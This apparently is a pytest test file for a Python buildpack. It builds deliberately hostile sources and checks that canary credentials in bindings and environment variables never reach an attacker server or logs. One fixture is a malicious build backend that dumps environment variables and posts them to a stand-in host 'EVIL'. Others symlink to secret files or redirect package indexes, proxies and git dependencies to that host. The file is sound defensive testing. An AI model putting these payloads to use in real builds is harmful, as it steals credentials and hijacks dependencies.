"""Canaries in every binding and variable while hostile sources are built: they are found nowhere."""

import contextlib
from collections.abc import Iterator, Mapping
from dataclasses import dataclass, field
from pathlib import Path

import pytest

from seldon_buildpack.messages.errors.base import BuildError
from tests.support import packages, servers
from tests.support.bindings import bind
from tests.support.canaries import Credentials, found_in
from tests.support.whole_build import build_here, make_bundle

MODEL = "class M:\n    def predict(self, X, names=None):\n        return X\n"
BACKEND = """\
import os, pathlib, sys, urllib.request, zipfile
# What the hostile code gets without looking for files of the platform.
SEEN = "\\n".join([repr(dict(os.environ)), repr(sys.argv), pathlib.Path("/proc/self/cmdline").read_text()])
print(SEEN)
print(SEEN, file=sys.stderr)
pathlib.Path(__file__).with_name("loot.py").write_text("LOOT = %r" % SEEN)
try:
    urllib.request.urlopen("EVIL/post", SEEN.encode(), timeout=5)
except OSError:
    pass
def build_wheel(folder, config_settings=None, metadata_directory=None):
    name = "p-1-py3-none-any.whl"
    with zipfile.ZipFile(pathlib.Path(folder, name), "w") as wheel:
        wheel.writestr("p_loot.py", "LOOT = %r" % SEEN)
        wheel.writestr("p-1.dist-info/METADATA", "Metadata-Version: 2.1\\nName: p\\nVersion: 1\\n")
        wheel.writestr("p-1.dist-info/WHEEL", "Wheel-Version: 1.0\\nTag: py3-none-any\\n")
        wheel.writestr("p-1.dist-info/RECORD", "p_loot.py,,\\n")
    return name
"""
PROJECT = (
    '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n'
    '[project]\nname = "p"\ndynamic = ["version"]\n'
)
# A file name with __ for / and the text, or the target of a link. HOST, EVIL and BINDINGS are
# replaced.
FILES: dict[str, dict[str, str]] = {
    "a build that tells what it sees": {
        "requirements.txt": "./p\ndep\n",
        "p/backend.py": BACKEND,
        "p/pyproject.toml": PROJECT,
    },
    "a build that fails with what it sees": {
        "requirements.txt": "./p\ndep\n",
        "p/backend.py": f"{BACKEND}raise RuntimeError(SEEN)\n",
        "p/pyproject.toml": PROJECT,
    },
    "requirements that are a binding": {"requirements.txt": "-> BINDINGS/corp/password"},
    "labels that are a binding": {".s2i/image_metadata.json": "-> BINDINGS/conda/token"},
    "files that are a binding": {"model.bin": "-> BINDINGS/home/.netrc", "large": "-> BINDINGS"},
    "a folder that is a link to the bindings": {
        "requirements.txt": "-r b/corp/password\n",
        "b": "-> BINDINGS",
    },
    "wheels in the bindings": {"requirements.txt": "--find-links BINDINGS/corp\ndep\n"},
    "another index, unverified": {
        "requirements.txt": "--index-url EVIL/simple\n--trusted-host HOST\ndep\n",
    },
    "another index that is asked first": {
        "requirements.txt": "--extra-index-url EVIL/simple\ndep\n"
    },
    "a proxy": {
        ".s2i/environment": "PIP_PROXY=EVIL\nHTTP_PROXY=EVIL\n",
        "requirements.txt": "dep\n",
    },
    "configuration of uv, pip and git": {
        "uv.toml": '[[index]]\nurl = "EVIL/simple"\ndefault = true\n',
        "pip.conf": "[global]\nindex-url = EVIL/simple\n",
        ".gitconfig": "[http]\n\tproxy = EVIL\n",
        ".netrc": "machine 127.0.0.1 login a password b\n",
        "requirements.txt": "dep\n",
    },
    "indexes of a project": {
        "pyproject.toml": '[project]\nname = "m"\nversion = "1"\ndependencies = ["dep"]\n'
        '[[tool.uv.index]]\nurl = "EVIL/simple"\ndefault = true\n',
    },
    "variables in a comment and in a bad line": {
        "requirements.txt": "# ${GITHUB_TOKEN} ${FOO}\ndep\nnumpy =! ${GITHUB_TOKEN}\n",
    },
    "variables in labels": {
        ".s2i/image_metadata.json": '{"labels": [{"a": "${GITHUB_TOKEN}", "b": "$FOO"}]}',
        ".s2i/environment": "COPY=${GITHUB_TOKEN}$FOO\n",
    },
    "names of the platform's variables": {
        ".s2i/environment": "GITHUB_TOKEN=x\nFOO=x\nBP_BUILD_VARIABLES=GITHUB_TOKEN FOO\n",
        "requirements.txt": "./p\n",
        "p/backend.py": BACKEND,
        "p/pyproject.toml": PROJECT,
    },
    "a git server": {"requirements.txt": "q @ git+EVIL/q.git\n"},
    "an archive at another port of the host": {
        "requirements.txt": "q @ EVIL/q-1.0-py3-none-any.whl\n"
    },
    "constraints at another server": {
        ".s2i/environment": "PIP_CONSTRAINT=EVIL/limits.txt\n",
        "requirements.txt": "-c EVIL/more.txt\ndep\n",
    },
    "a channel": {"environment.yml": "channels: [EVIL/other]\ndependencies: [python=3.11, dep]\n"},
    "a channel with the platform's beside it": {
        "environment.yml": "channels: [corp, EVIL/other]\ndependencies: [dep, {pip: [dep]}]\n",
    },
}


@dataclass(frozen=True)
class World:
    """Servers of the platform and of the source, and what reached each."""

    root: Path
    corp: str
    evil: str
    at_evil: list[bytes]
    at_corp: list[bytes]
    planted: dict[str, Credentials] = field(default_factory=dict)


@pytest.fixture
def world(tmp_path: Path) -> Iterator[World]:
    packages.wheel(tmp_path / "files/simple/dep", "dep", "1.0")
    at_evil: list[bytes] = []
    at_corp: list[bytes] = []
    with contextlib.ExitStack() as running:
        evil = running.enter_context(servers.recorded(tmp_path / "files", at_evil))
        corp = running.enter_context(servers.recorded(tmp_path / "files", at_corp))
        planted = {
            name: Credentials.planted(name) for name in ("pypi", "netrc", "conda", "mirror", "env")
        }
        yield World(tmp_path, corp, evil, at_evil, at_corp, planted)


def variables(world: World) -> dict[str, str]:
    env = world.planted["env"]
    names = (
        "AWS_SECRET_ACCESS_KEY",
        "FOO",
        "GITHUB_TOKEN",
        "BPX_TOKEN",
        "CMAKE_TOKEN",
        "DATABASE_URL",
    )
    tokens = {name: f"canary-{name}-of-the-platform" for name in names}
    return {
        **tokens,
        "PIP_EXTRA_INDEX_URL": servers.with_user(f"{world.corp}/simple", env.user, env.password),
    }


def mount(world: World) -> Path:
    bindings, planted = world.root / "bindings", world.planted
    pypi = {"username": planted["pypi"].user, "password": planted["pypi"].password}
    bind(bindings, "corp", {"type": "pypi", "uri": f"{world.corp}/simple", "role": "index", **pypi})
    login = f"login {planted['netrc'].user} password {planted['netrc'].password.replace(' ', '')}"
    bind(bindings, "home", {"type": "netrc", ".netrc": f"machine 127.0.0.1 {login}\n"})
    token = {"token": planted["conda"].password}
    bind(bindings, "conda", {"type": "conda", "uri": f"{world.corp}/forge", **token})
    mirror = servers.with_user(
        f"{world.corp}/mirror", planted["mirror"].user, planted["mirror"].password
    )
    bind(bindings, "mirror", {"type": "dependency-mirror", "default": mirror})
    return bindings


def write(world: World, files: Mapping[str, str], bindings: Path) -> None:
    replaced = {
        "EVIL": world.evil,
        "BINDINGS": str(bindings),
        "HOST": world.evil.rpartition("/")[2],
    }
    for name, text in {"M.py": MODEL, **files}.items():
        for word, value in replaced.items():
            text = text.replace(word, value)
        path = world.root / "app" / name
        path.parent.mkdir(parents=True, exist_ok=True)
        if text.startswith("-> "):
            path.symlink_to(text.removeprefix("-> "))
        else:
            path.write_text(text)


def secrets(world: World) -> list[str]:
    words = [word for each in world.planted.values() for word in each.words()]
    words += [each.replace(" ", "") for each in words if "netrc" in each]
    return [*words, *(value for name, value in variables(world).items() if name[:3] != "PIP")]


@pytest.mark.parametrize("name", FILES)
def test_canaries_stay_with_the_platform(world: World, name: str) -> None:
    bindings = mount(world)
    write(world, FILES[name], bindings)
    bundle = make_bundle(world.root / "bundle", world.root / "records")
    made = build_here(
        world.root,
        bundle,
        records=world.root / "records",
        env=variables(world),
        bindings=bindings,
    )
    assert made.error is None or isinstance(made.error, BuildError)
    places = [*made.pieces(), *(("a server of the source", data) for data in world.at_evil)]
    places += [(f"the command line of {child}", words) for child, _, words in made.children]
    assert found_in(places, secrets(world)) == []
    assert (
        found_in(
            [("corp", data) for data in world.at_corp],
            [value for name, value in variables(world).items() if name[:3] != "PIP"],
        )
        == []
    )


def test_servers_would_have_been_caught(world: World) -> None:
    """The sources do reach the servers, and what is sent there is seen."""
    bindings = mount(world)
    write(world, FILES["a build that tells what it sees"], bindings)
    bundle = make_bundle(world.root / "bundle", world.root / "records")
    env = {**variables(world), "BP_BUILD_VARIABLES": "GITHUB_TOKEN"}
    build_here(world.root, bundle, records=world.root / "records", env=env, bindings=bindings)
    assert b"canary-GITHUB_TOKEN" in b"".join(world.at_evil)
    assert any(b"/simple/dep" in request for request in world.at_corp)
    sent = found_in([("corp", b"".join(world.at_corp))], world.planted["env"].words())
    assert sent
